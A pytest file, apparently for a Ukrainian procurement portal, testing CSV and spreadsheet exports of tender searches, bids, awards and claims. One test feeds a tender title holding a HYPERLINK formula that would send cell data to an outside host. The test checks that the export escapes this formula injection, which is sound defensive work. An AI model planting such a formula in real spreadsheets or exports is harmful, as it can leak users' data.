"""A search's tenders to take away as CSV and as a spreadsheet: every tender it finds, with the
columns people filter on, headers in the reader's language, numbers as numbers; the cost
follows the rows exported."""

import csv
import io

import openpyxl
import pytest

from core.actors import Actor, Role
from portal import exports
from portal.models import User
from tenders.models import Tender
from tests.factories import portal_world
from tests.helpers import create_tender, open_for_bids, place_bid, tender_data

pytestmark = pytest.mark.django_db


def downloaded(client, kind: str, **asked) -> bytes:
    response = client.get(f"/search.{kind}", asked)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def test_a_search_as_csv_with_its_winner_and_contract(client, brokers, clock):
    world = portal_world(brokers, clock)
    client.cookies["django_language"] = "en"

    text = downloaded(client, "csv", q=world.tender.title.split()[0]).decode("utf-8-sig")

    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header[:3] == ["Tender ID", "Title", "Buyer"] and header[-2:] == [
        "Winner",
        "Contract value",
    ]
    [row] = rows
    assert row[0] == world.tender.tender_id
    assert row[12] == "ПП «Чисто»"  # (the winner; its contract not signed yet)
    assert float(row[6]) == world.tender.data["value"]["amount"]


def test_a_spreadsheet_holds_numbers_and_moments_in_ukrainian(client, brokers, clock):
    world = portal_world(brokers, clock)

    book = openpyxl.load_workbook(io.BytesIO(downloaded(client, "xlsx")))

    sheet = book.active
    header, row = [cell.value for cell in sheet[1]], [cell.value for cell in sheet[2]]
    assert header[0] == "Ідентифікатор закупівлі" and header[6] == "Очікувана вартість"
    assert row[0] == world.tender.tender_id
    assert isinstance(row[6], int | float) and row[9].year == world.tender.published.year


def test_a_search_the_form_refuses_is_not_exported(client):
    response = client.get("/search.csv", {"cpv": "11111111-1"})

    assert response.status_code == 400


def test_an_export_s_queries_follow_its_chunks_and_stop_at_its_bound(
    client, brokers, clock, query_count, monkeypatch
):
    monkeypatch.setattr(exports, "CHUNK", 2)
    monkeypatch.setattr(exports, "EXPORT_MOST", 5)
    portal_world(brokers, clock)
    buyer = User.objects.get(username="buyer")
    for _n in range(7):
        Tender.objects.register(
            by=Actor(Role.AUTHENTICATED, user=buyer), data=tender_data(clock.now())
        )

    with query_count() as counted:
        text = downloaded(client, "csv").decode("utf-8-sig")

    assert len(list(csv.reader(io.StringIO(text)))) == 1 + 5  # (the header, then the bound)
    # (the tenders, then each chunk's winners and contracts: three chunks of two at most)
    chunk_reads = [q for q in counted.captured_queries if "tenders_award" in q["sql"]]
    assert len(chunk_reads) == 3


def test_a_title_that_reads_as_a_formula_stays_text(client, api):
    create_tender(api, title='=HYPERLINK("http://example.org/?"&A1,"ok")')

    text = downloaded(client, "csv").decode("utf-8-sig")

    [row] = list(csv.reader(io.StringIO(text)))[1:]
    assert row[1] == '\'=HYPERLINK("http://example.org/?"&A1,"ok")'


def test_one_address_exports_so_many_searches_an_hour(client, settings):
    settings.EXPORT_RATE = "2/hour"

    answers = [client.get("/search.csv").status_code for _n in range(3)]

    assert answers == [200, 200, 429]


def test_a_tender_s_bids_decisions_and_claims_as_csv_from_its_page(client, brokers, clock):
    world = portal_world(brokers, clock)
    claim = world.claim("Переможець не підтвердив досвід", named_as_in_its_bid=True)
    client.cookies["django_language"] = "en"
    page = client.get(f"/tenders/{world.tender.pk}/").content.decode()

    tables = {}
    for part in ("bids", "awards", "claims"):
        url = f"/tenders/{world.tender.pk}/{part}.csv"
        assert url in page
        text = client.get(url).content.decode("utf-8-sig")
        tables[part] = list(csv.reader(io.StringIO(text)))

    assert tables["bids"][0][:3] == ["Bidder", "Code", "Price"]
    assert sorted(row[0] for row in tables["bids"][1:]) == [
        "ПП «Чисто»", "ТОВ «Медтехсервіс»", "ФОП Коваленко",
    ]  # fmt: skip
    assert tables["awards"][1][0] == "ПП «Чисто»" and tables["awards"][1][5] == "active"
    assert tables["claims"][1][:3] == [claim.complaint_id, claim.title, "ТОВ «Медтехсервіс»"]


def test_sealed_bids_and_drafts_are_not_exported(client, api, clock):
    draft = create_tender(api, status="draft")
    assert client.get(f"/tenders/{draft.id}/bids.csv").status_code == 404

    tender = open_for_bids(api, clock)
    place_bid(api, tender)
    page = client.get(f"/tenders/{tender.id}/").content.decode()
    text = client.get(f"/tenders/{tender.id}/bids.csv").content.decode("utf-8-sig")

    assert f"/tenders/{tender.id}/bids.csv" not in page
    assert len(list(csv.reader(io.StringIO(text)))) == 1  # (the header alone)
